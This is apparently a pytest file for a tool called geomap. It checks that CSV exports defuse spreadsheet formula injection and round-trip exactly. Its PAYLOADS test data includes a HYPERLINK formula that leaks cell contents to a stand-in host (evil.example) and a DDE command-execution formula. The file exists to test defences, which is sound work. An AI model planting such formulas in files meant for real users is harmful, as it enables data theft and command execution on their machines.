"""CSV outputs never carry a live spreadsheet formula (OWASP "CSV injection"), and geomap reads its own back exactly."""

import csv

import pytest
from hypothesis import given
from hypothesis import strategies as st
from security_helpers import cli_runs, small_collection, write_json

from geomap.cells import FORMULA_START, neutralise, restore
from geomap.counts import read_counts
from geomap.export import export_facilities, read_export, write_counts_csv
from geomap.join import join_file, write_report
from geomap.load import read_facilities, read_locations

#: Values that a spreadsheet runs, or that look like geomap's own escaping.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"Sources")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''=twice",
    "'+1",
    "'plain apostrophe",
    "-",
    "=",
]
#: Plain numbers stay as they are: a spreadsheet reads them as numbers, never as formulas.
NUMBERS = ["-5", "+3.25", "-1e5", "-0.5"]
_NUMBER_CHARS = set("0123456789.eE+-")


def live(cell):
    """True if a spreadsheet would run this cell as a formula."""
    return cell[:1] in FORMULA_START and not set(cell) <= _NUMBER_CHARS


def cells_of(path):
    with open(path, newline="", encoding="utf-8-sig") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def hostile_facilities(tmp_path):
    collection = small_collection()
    properties = collection["features"][0]["properties"]
    properties["name"] = PAYLOADS[0]
    properties["aliases"] = PAYLOADS[1:4]
    properties["notes"] = PAYLOADS[4]
    properties["operator"] = "-5"
    properties["detainee_counts"] = [{"detainees": 65, "as_of": "2026-01", "source": "https://example.org/c", "note": payload}
                                     for payload in PAYLOADS]
    for number, payload in enumerate(PAYLOADS + NUMBERS):
        collection["features"][1]["properties"][f"extra_{number}"] = payload
    collection["features"][2]["properties"]["=HYPERLINK(1)"] = "=1"  # a hostile column name, too
    return read_facilities(write_json(tmp_path / "hostile.geojson", collection))


@pytest.mark.parametrize("excel", [False, True], ids=["csv", "excel"])
def test_export_csv_has_no_live_formula_and_reads_back_exactly(tmp_path, excel):
    facilities = hostile_facilities(tmp_path)
    path = export_facilities(facilities, "csv", tmp_path / "out.csv", excel=excel)
    cells = cells_of(path)
    assert not [cell for cell in cells if live(cell)]
    assert "'" + PAYLOADS[0] in cells and "''=already quoted" in cells and "'''=twice" in cells
    assert "'plain apostrophe" in cells and "-5" in cells  # nothing to neutralise: written as it is
    back = read_export(path)
    assert back.drop(columns="geometry").to_dict("records") == facilities.drop(columns="geometry").to_dict("records")


def test_raw_cells_writes_values_as_they_are(tmp_path):
    facilities = hostile_facilities(tmp_path)
    path = export_facilities(facilities, "csv", tmp_path / "raw.csv", raw_cells=True)
    assert PAYLOADS[0] in cells_of(path) and "=HYPERLINK(1)" in cells_of(path)
    source = tmp_path / "hostile.geojson"
    cli_runs(["export", source, "-o", tmp_path / "cli.csv", "--counts-csv", tmp_path / "counts.csv", "--raw-cells"])
    assert any(live(cell) for cell in cells_of(tmp_path / "cli.csv"))
    assert any(live(cell) for cell in cells_of(tmp_path / "counts.csv"))
    cli_runs(["export", source, "-o", tmp_path / "safe.csv", "--excel", "--counts-csv", tmp_path / "safe-counts.csv"])
    assert not any(live(cell) for cell in cells_of(tmp_path / "safe.csv") + cells_of(tmp_path / "safe-counts.csv"))


def test_the_counts_table_is_neutralised_and_read_counts_undoes_it(tmp_path):
    facilities = hostile_facilities(tmp_path)
    path = tmp_path / "counts.csv"
    write_counts_csv(facilities, path)
    assert not [cell for cell in cells_of(path) if live(cell)]
    assert read_counts(path)["note"].tolist() == [payload.strip() for payload in PAYLOADS]  # read_counts strips cells


def test_join_match_report_is_neutralised(tmp_path):
    facilities = read_facilities(write_json(tmp_path / "f.geojson", small_collection()))
    counts = tmp_path / "counts.csv"
    rows = [f'"{name.replace(chr(34), chr(34) * 2)}",@SUM(A1),5,2026-01-09,https://example.org/c' for name in PAYLOADS[:5]]
    counts.write_text("facility,state,detainees,as_of,source\n" + "\n".join(rows) + "\n", "utf-8")
    _, report = join_file(facilities, counts)
    write_report(report, tmp_path / "report.csv")
    assert not [cell for cell in cells_of(tmp_path / "report.csv") if live(cell)]
    write_report(report, tmp_path / "raw.csv", raw_cells=True)
    assert "@SUM(A1)" in cells_of(tmp_path / "raw.csv")
    cli_runs(["join", tmp_path / "f.geojson", counts, "-o", tmp_path / "j.geojson"])
    assert not [cell for cell in cells_of(tmp_path / "j.matches.csv") if live(cell)]
    cli_runs(["join", tmp_path / "f.geojson", counts, "-o", tmp_path / "r.geojson", "--raw-cells"])
    assert "@SUM(A1)" in cells_of(tmp_path / "r.matches.csv")


def test_a_locations_csv_written_by_geomap_reads_back_exactly(tmp_path):
    facilities = hostile_facilities(tmp_path)
    facilities = facilities[facilities["status"] == "open"].copy()  # a locations CSV carries no status dates
    facilities["name"] = PAYLOADS[:len(facilities)]
    path = export_facilities(facilities, "csv", tmp_path / "out.csv")
    assert read_locations(path)["name"].tolist() == facilities["name"].tolist()


@given(st.text(alphabet=st.sampled_from("=+-@\t\r'a1. e"), max_size=8) | st.text(max_size=20))
def test_restore_undoes_neutralise_for_any_text(value):
    cell = neutralise(value)
    assert restore(cell) == value
    assert not live(cell) or value == cell  # only plain numbers are left as they are
